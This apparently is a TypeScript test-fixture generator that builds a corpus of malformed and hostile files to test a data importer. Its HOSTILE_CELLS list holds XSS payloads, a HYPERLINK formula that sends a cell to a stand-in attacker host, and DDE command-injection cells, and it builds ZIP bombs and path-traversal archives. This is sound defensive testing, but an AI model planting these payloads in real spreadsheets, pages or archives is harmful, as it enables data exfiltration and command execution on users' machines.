// A hostile corpus, generated on the fly: truncated files, wrong encodings, binary noise, very long lines,
// deep nesting, quote bombs, broken SQL, ZIP bombs and traversal names, and cells that are markup or
// spreadsheet formulas. Every value is synthetic. Large files are written in chunks, never built as one string.
import fs from 'node:fs';
import path from 'node:path';
import { createDeflateRaw, crc32 } from 'node:zlib';
import { loadSqlJs } from '../../../electron/node/vault/sqljs';
import { zipSync } from '../../node/ingest/support/zip-writer';

export const MiB = 1024 * 1024;

/** What an import of a corpus file must report: its status, and a reason saying what went wrong and where. */
export interface Expectation {
  status: ('parsed' | 'malformed' | 'unparsed')[];
  /** The evidence reason or one of its warnings/problems must match (what kind of problem). */
  reason?: RegExp;
  /** ...and this (where: a line, a byte offset, an entry name). */
  where?: RegExp;
  /** The evidence's own reason (not only its warnings) must match: what the list of evidence shows. */
  topReason?: RegExp;
  /** Records kept before the problem, when known. */
  records?: number;
  /** Child evidence (ZIP entries) that must be imported, by name. */
  children?: string[];
}

export interface CorpusFile {
  name: string;
  kind: string;
  make: (dir: string) => Promise<string>;
  expect: Expectation;
}

/** A deterministic byte stream (xorshift32), so "noise" is the same on every run. */
export function noise(n: number, seed = 0x9e3779b9): Buffer {
  const b = Buffer.alloc(n);
  let x = seed >>> 0;
  for (let i = 0; i < n; i++) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    b[i] = x & 0xff;
  }
  return b;
}

function write(dir: string, name: string, data: string | Buffer): string {
  const p = path.join(dir, name);
  fs.writeFileSync(p, data);
  return p;
}

/** Writes `head`, then `total` bytes of `fill` in 1 MiB chunks, then `tail`. */
function writeChunked(dir: string, name: string, head: string, fillByte: string, total: number, tail = ''): string {
  const p = path.join(dir, name);
  const fd = fs.openSync(p, 'w');
  try {
    fs.writeSync(fd, head);
    const chunk = Buffer.alloc(MiB, fillByte);
    for (let left = total; left > 0; left -= MiB) fs.writeSync(fd, chunk, 0, Math.min(MiB, left));
    fs.writeSync(fd, tail);
  } finally {
    fs.closeSync(fd);
  }
  return p;
}

async function sqliteFile(): Promise<Buffer> {
  const SQL = await loadSqlJs();
  const db = new SQL.Database();
  db.run('CREATE TABLE people (id INTEGER PRIMARY KEY, name TEXT, note TEXT)');
  db.run('BEGIN');
  for (let i = 0; i < 3000; i++) db.run('INSERT INTO people (name, note) VALUES (?, ?)', [`Synthetic Person ${i}`, 'n'.repeat(40)]);
  db.run('COMMIT');
  const bytes = Buffer.from(db.export());
  db.close();
  return bytes;
}

let zeros64: Promise<{ body: Buffer; crc: number }> | null = null;
/** 64 MiB of zeros, deflated once (about 64 KiB): a 1000:1 entry. */
function bombBody(): Promise<{ body: Buffer; crc: number }> {
  zeros64 ??= deflateZeros(64 * MiB);
  return zeros64;
}

/** Raw-deflates `total` zero bytes, fed in 1 MiB chunks (the input never exists as one buffer). */
async function deflateZeros(total: number): Promise<{ body: Buffer; crc: number }> {
  const z = createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  z.on('data', (d: Buffer) => out.push(d));
  const done = new Promise<void>((resolve, reject) => {
    z.on('end', resolve);
    z.on('error', reject);
  });
  const chunk = Buffer.alloc(MiB);
  let crc = 0;
  for (let left = total; left > 0; left -= MiB) {
    const piece = left >= MiB ? chunk : chunk.subarray(0, left);
    crc = crc32(piece, crc);
    if (!z.write(piece)) await new Promise((r) => z.once('drain', r));
  }
  z.end();
  await done;
  return { body: Buffer.concat(out), crc: crc >>> 0 };
}

/** A one-entry ZIP whose body is already deflated; `declared` is the uncompressed size the headers claim. */
function zipWithBody(name: string, body: Buffer, crc: number, declared: number): Buffer {
  const nameBuf = Buffer.from(name, 'utf8');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(0x0800, 6);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(body.length, 18);
  local.writeUInt32LE(declared, 22);
  local.writeUInt16LE(nameBuf.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(0x0800, 8);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(body.length, 20);
  central.writeUInt32LE(declared, 24);
  central.writeUInt16LE(nameBuf.length, 28);
  central.writeUInt32LE(0, 42);
  const cdSize = central.length + nameBuf.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(cdSize, 12);
  end.writeUInt32LE(30 + nameBuf.length + body.length, 16);
  return Buffer.concat([local, nameBuf, body, central, nameBuf, end]);
}

const GOOD_CSV = 'id,name,city\n1,Synthetic One,Pune\n2,Synthetic Two,Agra\n3,Synthetic Three,Kota\n';

/** Cells an attacker would plant for a viewer or a spreadsheet. */
export const HOSTILE_CELLS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(document.domain)',
  '<a href="javascript:alert(1)">click</a>',
  '=HYPERLINK("http://attacker.invalid/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '\t=1+1',
];

function csvCell(s: string): string {
  return /[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

export const CORPUS: CorpusFile[] = [
  // ---- truncated files ----
  {
    name: 'cut-mid-quote.csv',
    kind: 'truncated CSV (inside a quoted field)',
    make: async (d) => write(d, 'cut-mid-quote.csv', 'id,name,note\n1,Synthetic A,"fine"\n2,Synthetic B,"fine too"\n3,Synthetic C,"this quote never clo'),
    expect: { status: ['malformed', 'parsed'], reason: /quote|quoted|unterminated|unclosed|end of (the )?file/i, where: /line \d+|offset \d+/i },
  },
  {
    name: 'cut-mid-string.json',
    kind: 'truncated JSON (inside a string)',
    make: async (d) => write(d, 'cut-mid-string.json', '[{"name":"Synthetic A","n":1},{"name":"Synthetic B","n":2},{"name":"Synthetic C","n'),
    expect: { status: ['malformed'], records: 2, reason: /end|truncat|unterminated|incomplete/i, where: /offset \d+|line \d+/i },
  },
  {
    name: 'cut-mid-insert.sql',
    kind: 'truncated SQL dump (inside an INSERT)',
    make: async (d) =>
      write(
        d,
        'cut-mid-insert.sql',
        "CREATE TABLE `people` (`id` int, `name` varchar(50));\nINSERT INTO `people` VALUES (1,'Synthetic A'),(2,'Synthetic B');\nINSERT INTO `people` VALUES (3,'Synthetic C'),(4,'Synth",
      ),
    expect: { status: ['malformed', 'parsed'], reason: /end|truncat|unterminated|incomplete|statement/i, where: /line \d+|offset \d+/i },
  },
  {
    name: 'cut-in-half.sqlite',
    kind: 'SQLite file cut in half',
    make: async (d) => {
      const db = await sqliteFile();
      return write(d, 'cut-in-half.sqlite', db.subarray(0, Math.floor(db.length / 2)));
    },
    expect: { status: ['malformed', 'unparsed'], reason: /sqlite|database|damaged|corrupt|truncat|malformed|cannot|could not/i },
  },
  {
    name: 'cut.zip',
    kind: 'ZIP cut in the middle',
    make: async (d) => {
      const z = zipSync({ 'a.csv': GOOD_CSV.repeat(200), 'b.csv': GOOD_CSV.repeat(300) });
      return write(d, 'cut.zip', z.subarray(0, Math.floor(z.length * 0.6)));
    },
    expect: { status: ['unparsed'], reason: /could not be read/i, topReason: /no entry could be imported: cut\.zip: the archive could not be read/ },
  },
  {
    name: 'cut-mid-record.ndjson',
    kind: 'truncated NDJSON',
    make: async (d) => write(d, 'cut-mid-record.ndjson', '{"name":"Synthetic A"}\n{"name":"Synthetic B"}\n{"name":"Synth'),
    expect: { status: ['malformed', 'parsed'], reason: /end|truncat|unterminated|incomplete|invalid|JSON/i, where: /line \d+|offset \d+/i },
  },
  // ---- wrong encodings ----
  {
    name: 'utf16le-no-bom.csv',
    kind: 'UTF-16LE without a byte-order mark',
    make: async (d) => write(d, 'utf16le-no-bom.csv', Buffer.from(GOOD_CSV, 'utf16le')),
    expect: { status: ['parsed'], records: 3 },
  },
  {
    name: 'utf16be-no-bom.csv',
    kind: 'UTF-16BE without a byte-order mark',
    make: async (d) => write(d, 'utf16be-no-bom.csv', Buffer.from(GOOD_CSV, 'utf16le').swap16()),
    expect: { status: ['parsed'], records: 3 },
  },
  {
    name: 'latin1-as-utf8.csv',
    kind: 'Latin-1 bytes in a file read as UTF-8',
    make: async (d) => write(d, 'latin1-as-utf8.csv', Buffer.from('id,name,city\n1,Ren\xe9e Synth\xe9tique,S\xe3o Paulo\n2,Jos\xe9 Exemple,M\xfcnchen\n', 'latin1')),
    expect: { status: ['parsed'], records: 2 },
  },
  {
    name: 'invalid-utf8.csv',
    kind: 'invalid UTF-8 byte sequences',
    make: async (d) =>
      write(
        d,
        'invalid-utf8.csv',
        Buffer.concat([
          Buffer.from('id,name,city\n1,Synthetic One,Pune\n2,Synthetic '),
          Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc, 0xed, 0xa0, 0x80]),
          Buffer.from(',Agra\n3,Synthetic Three,Kota\n'),
        ]),
      ),
    expect: { status: ['parsed', 'malformed'], records: 3, reason: /not valid UTF-8|Windows-1252/ },
  },
  {
    name: 'invalid-utf8-late.csv',
    kind: 'invalid UTF-8 bytes past the first MiB (the head the encoding is guessed from)',
    make: async (d) => {
      const rows = Array.from({ length: 60000 }, (_, i) => `${i + 1},Synthetic ${i},Pune`).join('\n');
      return write(d, 'invalid-utf8-late.csv', Buffer.concat([Buffer.from(`id,name,city\n${rows}\n3001,Synthetic `), Buffer.from([0xc3, 0x28, 0xff, 0xfe]), Buffer.from(',Agra\n3002,Synthetic End,Kota\n')]));
    },
    expect: { status: ['parsed', 'malformed'], records: 60002, reason: /invalid UTF-8/, where: /line 60002/ },
  },
  // ---- noise and emptiness ----
  {
    name: 'noise.bin',
    kind: 'binary noise',
    make: async (d) => write(d, 'noise.bin', noise(256 * 1024)),
    expect: { status: ['unparsed'], reason: /binary/i, where: /offset \d+|bytes/i },
  },
  {
    name: 'noise.csv',
    kind: 'binary noise named .csv',
    make: async (d) => write(d, 'noise.csv', noise(64 * 1024, 7)),
    expect: { status: ['unparsed'], reason: /binary/i },
  },
  {
    name: 'zero-bytes.csv',
    kind: 'zero-byte file',
    make: async (d) => write(d, 'zero-bytes.csv', ''),
    expect: { status: ['unparsed'], reason: /empty/i, records: 0 },
  },
  {
    name: 'all-nul.txt',
    kind: 'a megabyte of NUL bytes',
    make: async (d) => write(d, 'all-nul.txt', Buffer.alloc(MiB)),
    expect: { status: ['unparsed'], reason: /binary/i, where: /offset 0/ },
  },
  // ---- nesting and quote bombs ----
  {
    name: 'nested-100k.json',
    kind: "100000 nested '['",
    make: async (d) => write(d, 'nested-100k.json', '['.repeat(100_000)),
    expect: { status: ['malformed', 'unparsed'], reason: /depth|nest/i, where: /offset \d+|line \d+/ },
  },
  {
    name: 'nested-objects.json',
    kind: '100000 nested objects, closed',
    make: async (d) => write(d, 'nested-objects.json', '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000)),
    expect: { status: ['malformed', 'unparsed'], reason: /depth|nest/i, where: /offset \d+|line \d+/ },
  },
  // ---- broken SQL ----
  {
    name: 'broken-statements.sql',
    kind: 'SQL dump with broken statements',
    make: async (d) =>
      write(
        d,
        'broken-statements.sql',
        [
          'CREATE TABLE `people` (`id` int, `name` varchar(50));',
          "INSERT INTO `people` VALUES (1,'Synthetic A');",
          'INSERT INTO `people` VALUES (2,;',
          'INSERT INTO VALUES (3);',
          "INSERT INTO `people` VALUES (4,'Synthetic D'),(5 'missing comma');",
          "INSERT INTO `people` VALUES (6,'Synthetic F'));",
          "INSERT INTO `people` VALUES (7,'Synthetic G');",
          '',
        ].join('\n'),
      ),
    expect: { status: ['parsed', 'malformed'], reason: /statement|tuple|syntax|expected|malformed|unexpected/i, where: /line \d+/ },
  },
  // ---- ZIP bombs and traversal ----
  {
    name: 'bomb-honest.zip',
    kind: 'ZIP bomb (sizes declared)',
    make: async (d) => {
      const { body, crc } = await bombBody();
      return write(d, 'bomb-honest.zip', zipWithBody('zeros.csv', body, crc, 64 * MiB));
    },
    expect: { status: ['unparsed'], reason: /ratio|bomb|limit/i, where: /zeros\.csv/, topReason: /no entry could be imported: .*zeros\.csv.*ZIP bomb/ },
  },
  {
    name: 'bomb-lying.zip',
    kind: 'ZIP bomb (directory claims 1 KiB)',
    make: async (d) => {
      const { body, crc } = await bombBody();
      return write(d, 'bomb-lying.zip', zipWithBody('small.csv', body, crc, 1024));
    },
    expect: { status: ['unparsed'], reason: /bomb|limit|damaged|does not match/i, where: /small\.csv/, topReason: /no entry could be imported: .*small\.csv/ },
  },
  {
    name: 'traversal.zip',
    kind: 'ZIP with traversal and absolute names',
    make: async (d) =>
      write(
        d,
        'traversal.zip',
        zipSync({ '../x': 'escape\n', '../../etc/x.csv': GOOD_CSV, '/etc/x': 'root\n', 'C:\\x': 'drive\n', '\\\\server\\share\\x': 'unc\n', 'ok/inner.csv': GOOD_CSV }),
      ),
    expect: { status: ['parsed'], reason: /traversal|absolute|drive letter|UNC/i, where: /\.\.\/x|\/etc\/x|C:\\x/, children: ['inner.csv'] },
  },
  // ---- markup and formulas in cells ----
  {
    name: 'markup-and-formulas.csv',
    kind: 'cells with <script>, <img onerror>, javascript: links and formulas',
    make: async (d) =>
      write(d, 'markup-and-formulas.csv', 'id,payload\n' + HOSTILE_CELLS.map((c, i) => `${i + 1},${csvCell(c)}`).join('\n') + '\n'),
    expect: { status: ['parsed'], records: HOSTILE_CELLS.length },
  },
  {
    name: 'markup.json',
    kind: 'JSON with markup keys and values',
    make: async (d) => write(d, 'markup.json', JSON.stringify([{ '<script>k</script>': HOSTILE_CELLS[0], 'on"err': HOSTILE_CELLS[1], link: HOSTILE_CELLS[2] }])),
    expect: { status: ['parsed'], records: 1 },
  },
  // ---- big ones last (each later verification re-reads them) ----
  {
    name: 'quote-bomb-10mb.csv',
    kind: 'CSV of 10 MB with an unclosed quote',
    make: async (d) => writeChunked(d, 'quote-bomb-10mb.csv', 'id,name,note\n1,Synthetic A,ok\n2,Synthetic B,"', 'x', 10 * MiB, '\n3,Synthetic C,ok\n'),
    expect: { status: ['malformed', 'parsed'], reason: /quote|quoted|unterminated|unclosed|larger than|end of/i, where: /line \d+|offset \d+/ },
  },
  {
    name: 'long-line-64mib.txt',
    kind: 'one 64 MiB line (text)',
    make: async (d) => writeChunked(d, 'long-line-64mib.txt', '', 'a', 64 * MiB),
    expect: { status: ['malformed'], reason: /longer than|larger than|limit/i, where: /offset \d+/ },
  },
  {
    name: 'long-line-64mib.csv',
    kind: 'one 64 MiB line (CSV)',
    make: async (d) => writeChunked(d, 'long-line-64mib.csv', 'id,blob\n1,', 'a', 64 * MiB),
    expect: { status: ['malformed'], reason: /larger than|longer than|limit/i, where: /offset \d+/ },
  },
];
